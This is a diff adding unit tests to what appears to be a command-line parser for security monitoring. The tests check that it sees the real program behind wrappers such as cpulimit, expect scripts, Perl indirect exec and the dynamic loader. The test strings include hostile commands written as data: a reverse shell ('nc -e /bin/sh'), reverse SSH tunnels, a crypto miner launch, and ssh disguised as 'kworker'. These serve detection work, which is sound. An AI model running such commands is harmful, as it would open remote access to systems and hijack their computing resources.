@@ -573,6 +573,12 @@ def test_a_batch_scripts_directives_are_read_as_options_before_its_name():
     assert names("bsub -n 4 -R 'span[hosts=1]' ./train --epochs 3") == ["bsub", "train"]
 
 
+def test_cpulimit_runs_the_command_it_throttles():
+    assert names("cpulimit -l 40 -- ./xmrig -o p:3333") == ["cpulimit", "xmrig"]
+    assert names("cpulimit --limit=50 python3 train.py") == ["cpulimit", "python3"]
+    assert names("cpulimit -p 1234 -l 25") == ["cpulimit"]
+
+
 def test_a_wrappers_clustered_options_take_their_value_from_the_next_word():
     assert [c.line for c in reader.read("sudo -Eu root id")] == ["sudo -Eu root id", "id"]
     assert names("echo a b | xargs -0I {} echo {}")[-1] == "echo"
@@ -600,6 +606,31 @@ def test_python_exec_and_spawn_run_their_program_with_its_argument_list(code, ar
 def test_other_languages_argument_lists_are_read_as_one_command(lang, code):
     ssh = next(c for c in reader.read_code(lang, code) if c.name == "ssh" and c.args)
     assert ssh.args == ["-fNR", "1:l:22", "a@h"]
+
+
+def test_perls_indirect_exec_runs_the_program_in_braces_not_the_name_it_shows():
+    ssh = next(c for c in reader.read_code("perl", 'exec {"/usr/bin/ssh"} "kworker", "-NR", "1:l:22", "h";')
+               if c.name == "ssh")
+    assert ssh.args == ["-NR", "1:l:22", "h"]
+
+
+def test_expect_runs_what_its_script_spawns_or_execs():
+    """`expect -c` strings, a script the run wrote, or the script on its input: each `spawn` and
+    `exec` (options such as -noecho past) is read as a command line."""
+    spawned = lambda text, session=None: [c.line for c in reader.read(text, session) if "expect spawn" in c.via]  # noqa: E731
+    assert spawned("expect -c 'spawn -noecho ssh -R 1:l:22 h; expect eof'") == ["ssh -R 1:l:22 h"]
+    session = Session()
+    session.remember("/w/t.exp", "#!/usr/bin/expect -f\nset timeout 5\nspawn ./xmrig -o p:3333\n"
+                                 "if {1} { exec nc -e /bin/sh h 4 }\ninteract\n")
+    session.chdir("/w")
+    assert spawned("expect t.exp arg", session) == ["./xmrig -o p:3333", "nc -e /bin/sh h 4"]
+    assert spawned("expect <<'E'\nspawn ssh h\nE") == ["ssh h"]
+    assert spawned("expect -f other.exp") == []
+
+
+def test_the_dynamic_loader_runs_the_program_after_its_options():
+    assert names("/lib64/ld-linux-x86-64.so.2 --library-path /tmp/l ./xmrig -o p:1") == ["ld-linux-x86-64.so.2", "xmrig"]
+    assert names("/lib/ld-musl-x86_64.so.1 --list /bin/ls")[0] == "ld-musl-x86_64.so.1"
 
 
 def test_programs_own_syntaxes_are_read_within_bounds_whatever_their_words():
